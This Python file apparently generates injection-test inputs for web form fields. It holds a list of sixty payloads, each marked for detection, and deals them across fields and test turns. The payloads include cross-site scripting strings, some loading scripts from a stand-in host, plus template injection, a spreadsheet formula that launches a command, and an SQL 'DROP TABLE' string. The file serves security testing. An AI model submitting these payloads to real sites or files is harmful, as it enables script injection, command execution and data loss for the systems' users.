"""Sixty texts that would be code if any page took them for it, dealt out so that each comes into every field."""

from __future__ import annotations

from functools import cache

# Whatever makes an element marks it, so that a page can be asked for elements that nobody but a text could have made.
PAYLOADS = (
    "<script data-planted>alert(1)</script>",
    "<SCRIPT data-planted SRC=//x.example/x.js></SCRIPT>",
    "<scr<script data-planted>ipt>alert(1)</scr</script>ipt>",
    "</script><script data-planted>alert(1)</script>",
    "<script data-planted type=module>import'//x.example/x'</script>",
    "<img data-planted src=x onerror=alert(1)>",
    "<img data-planted src=//x.example/x.png>",
    '"><img data-planted src=x onerror=alert(1)>',
    "'><img data-planted src=x onerror=alert(1)>",
    "<svg data-planted onload=alert(1)>",
    "<svg data-planted><script>alert(1)</script></svg>",
    "<svg data-planted><use href=//x.example/x#a></svg>",
    "<svg data-planted><animate onbegin=alert(1) attributeName=x></svg>",
    "<math data-planted><mtext><script>alert(1)</script></math>",
    "<iframe data-planted src=javascript:alert(1)></iframe>",
    "<iframe data-planted srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data-planted data=javascript:alert(1)></object>",
    "<embed data-planted src=//x.example/x.swf>",
    "<a data-planted href=javascript:alert(1)>x</a>",
    "<a data-planted href=data:text/html,alert(1)>x</a>",
    "<form data-planted action=//x.example/><button>x</button></form>",
    "<input data-planted autofocus onfocus=alert(1)>",
    "<button data-planted formaction=javascript:alert(1)>x</button>",
    "<select data-planted autofocus onfocus=alert(1)></select>",
    "<textarea data-planted autofocus onfocus=alert(1)></textarea>",
    "</textarea><script data-planted>alert(1)</script>",
    "</title><script data-planted>alert(1)</script>",
    "</style><script data-planted>alert(1)</script>",
    "<style data-planted>*{background:url(//x.example/x)}</style>",
    "<style data-planted>@import'//x.example/x.css';</style>",
    "<link data-planted rel=stylesheet href=//x.example/x.css>",
    "<meta data-planted http-equiv=refresh content=0;url=//x.example>",
    "<base data-planted href=//x.example/>",
    "<body data-planted onload=alert(1)>",
    "<details data-planted open ontoggle=alert(1)>x</details>",
    "<video data-planted><source onerror=alert(1)></video>",
    "<audio data-planted src=x onerror=alert(1)></audio>",
    "<marquee data-planted onstart=alert(1)>x</marquee>",
    "<template data-planted><script>alert(1)</script></template>",
    "<dialog data-planted open><form method=dialog></form></dialog>",
    "<p data-planted style=position:fixed;inset:0>x</p>",
    "<!--><img data-planted src=x onerror=alert(1)>-->",
    "<![CDATA[<script data-planted>alert(1)</script>]]>",
    "<?xml version=1.0?><x data-planted/>",
    '" autofocus onfocus=alert(1) data-planted="',
    "' onmouseover=alert(1) data-planted='",
    "` onmouseover=alert(1) data-planted=`",
    "javascript:alert(1)//",
    "&lt;script data-planted&gt;alert(1)&lt;/script&gt;",
    "&#60;script data-planted&#62;alert(1)&#60;/script&#62;",
    "%3Cscript data-planted%3Ealert(1)%3C/script%3E",
    "\\u003cscript data-planted\\u003ealert(1)",
    "{{ 7|add:7 }}{% include 'base.html' %}",
    "{% load i18n %}{% csrf_token %}",
    "${alert(1)}#{alert(1)}<%= alert(1) %>",
    "%(name)s %s {0} {name}",
    '=HYPERLINK("//x.example","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; DROP TABLE x; --",
    '];alert(1);//"};alert(1);//',
)


@cache
def hands(longest: int) -> tuple[str, ...]:
    """Return texts that together hold every payload whole, as many in each as go into ``longest`` characters."""
    dealt: list[str] = []
    for payload in sorted(PAYLOADS, key=len, reverse=True):
        at = next((at for at, hand in enumerate(dealt) if len(hand) + len(payload) < longest), None)
        if at is None:
            dealt.append(payload)
        else:
            dealt[at] += f" {payload}"
    return tuple(dealt)


class Texts:
    """Deals hands out to fields; over ``TURNS`` turns each field gets all that there are for its length."""

    def __init__(self, turn: int) -> None:
        """Deal what is due in this turn; no two fields begin with the same hand."""
        self._turn = turn
        self.dealt: dict[str, str] = {}

    def __call__(self, field: str, longest: int) -> str:
        """Return the text of a field that is typed once."""
        return self.several(field, longest, 1)[0]

    def several(self, field: str, longest: int, rows: int) -> tuple[str, ...]:
        """Return the texts of a field that is typed in several rows; the shorter it is, the more rows it needs."""
        known = hands(longest)
        if len(known) > rows * TURNS:
            raise ValueError(f"{field}: {rows} rows are too few to get through {len(known)} texts")
        begin = (self._turn + len(self.dealt)) * rows
        texts = tuple(known[(begin + row) % len(known)] for row in range(rows))
        self.dealt |= {f"{field} {row}": text for row, text in enumerate(texts, start=1)}
        return texts


TURNS = len(hands(150))
"""So many turns it takes until a name of a person, which is typed once, was every payload."""
